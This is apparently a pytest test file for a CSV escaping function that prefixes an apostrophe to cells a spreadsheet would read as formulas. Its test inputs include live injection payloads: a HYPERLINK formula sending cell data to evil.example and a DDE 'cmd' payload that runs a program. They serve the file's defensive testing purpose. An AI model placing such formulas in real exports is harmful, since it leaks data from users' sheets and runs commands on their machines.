"""CSV cells no spreadsheet runs as a formula (pools/spreadsheet.py), shared by the audit and monitoring CSVs."""

import pytest

from pools.spreadsheet import spreadsheet_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?"&A2)', '\'=HYPERLINK("https://evil.example/?"&A2)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Text that looks like a number is still text from upstream: it gets the apostrophe too.
        ("-1", "'-1"),
        ("cpuUsage", "cpuUsage"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, "True"),
        # inf and nan are written as text, and "-inf" starts like a formula.
        (float("-inf"), "'-inf"),
        (float("nan"), "nan"),
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("number", [-3.5, -1, 0, 42, 1e-9, -1e300])
def test_a_number_stays_a_number_negative_ones_too(number):
    assert spreadsheet_cell(number) is number
